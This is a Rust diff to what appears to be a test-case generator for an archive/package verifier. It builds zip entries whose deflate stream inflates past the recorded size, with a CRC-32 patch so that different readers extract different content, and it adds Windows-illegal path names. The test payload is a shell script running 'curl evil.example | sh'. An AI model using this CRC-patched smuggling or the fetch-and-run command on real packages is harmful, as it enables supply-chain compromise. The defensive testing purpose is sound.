@@ -1393,19 +1393,30 @@ fn structure(c: &mut Cases) {
         }));
     {
         // ZipDiff a2's trick: the stream inflates to more than the records say,
-        // with the content patched so its CRC-32 is that of the recorded (empty)
-        // content. Readers that trust the size extract nothing, readers that
-        // inflate to the end extract "evil", and both pass the CRC check.
-        let mut evil = b"#!/bin/sh\ncurl evil.example | sh\n".to_vec();
-        let patch = crc_patch(&evil, 0);
-        evil.extend_from_slice(&patch);
-        assert_eq!(crc32fast::hash(&evil), 0);
+        // with the content patched so its CRC-32 is that of the recorded
+        // content. Readers that trust the size extract the recorded content,
+        // readers that inflate to the end extract the script, and both pass
+        // the CRC check.
+        let script = b"#!/bin/sh\ncurl evil.example | sh\n";
+        let longer = |recorded: &[u8]| {
+            let mut data = [recorded, script.as_slice()].concat();
+            let patch = crc_patch(&data, crc32fast::hash(recorded));
+            data.extend_from_slice(&patch);
+            assert_eq!(crc32fast::hash(&data), crc32fast::hash(recorded));
+            data
+        };
         let mut e = Entry::file("etc/empty", b"");
         e.method = 8;
-        e.body = Some(deflate(&evil));
-        c.add("deflate-past-recorded-size-crc-patched", "size_mismatch",
-            "etc/empty is listed (signed) and recorded as 0 bytes with CRC-32 0; its deflate stream inflates to a script whose CRC-32 was patched to 0 (Python and bsdtar extract nothing, unzip and Java the script); reading one byte past the signed size finds it",
+        e.body = Some(deflate(&longer(b"")));
+        c.add("deflate-past-recorded-size-crc-patched", "archive_ambiguous",
+            "etc/empty is listed (signed) and recorded as 0 bytes with CRC-32 0; its deflate stream inflates to a script whose CRC-32 was patched to 0 (Python and bsdtar extract nothing, unzip and Java the script): the structure pass inflates entries recorded as empty",
             c.listing(&[("bin/tool", TOOL, 0o755), ("etc/empty", b"", 0o644)], vec![Entry::file("bin/tool", TOOL).mode(MODE_EXEC), e]));
+        let mut e = Entry::file("etc/conf", CONF);
+        e.method = 8;
+        e.body = Some(deflate(&longer(CONF)));
+        c.add("deflate-past-recorded-size-crc-patched-nonempty", "size_mismatch",
+            "etc/conf is recorded (and signed) as its 10 bytes; its deflate stream goes on with a script and 4 bytes that bring the CRC-32 of the whole back to the recorded one: caught when the content is read, one byte past the signed size",
+            c.pkg(|z| *entry(z, "etc/conf") = e));
     }
 }
 
@@ -1460,7 +1471,7 @@ fn patch_central(bytes: &mut [u8], cd: usize, i: usize, f: impl Fn(&mut [u8])) {
 }
 
 fn paths(c: &mut Cases) {
-    let bad: [(&str, &[u8], &str); 19] = [
+    let bad: [(&str, &[u8], &str); 25] = [
         ("dotdot", b"../evil", "a .. segment"),
         (
             "dotdot-nested",
@@ -1512,6 +1523,32 @@ fn paths(c: &mut Cases) {
             "a NUL byte (C readers stop there)",
         ),
         ("empty-name", b"", "an empty name"),
+        (
+            "windows-question-mark",
+            b"bin/tool?",
+            "a ? (7-Zip on Windows writes _)",
+        ),
+        ("windows-star", b"bin/*", "a * (7-Zip on Windows writes _)"),
+        (
+            "windows-less-than",
+            b"bin/<tool",
+            "a < (7-Zip on Windows writes _)",
+        ),
+        (
+            "windows-greater-than",
+            b"bin/tool>",
+            "a > (7-Zip on Windows writes _)",
+        ),
+        (
+            "windows-pipe",
+            b"bin/a|b",
+            "a | (7-Zip on Windows writes _)",
+        ),
+        (
+            "windows-quote",
+            b"bin/\"tool\"",
+            "a \" (7-Zip on Windows writes _)",
+        ),
     ];
     for (file, name, what) in bad {
         c.add(
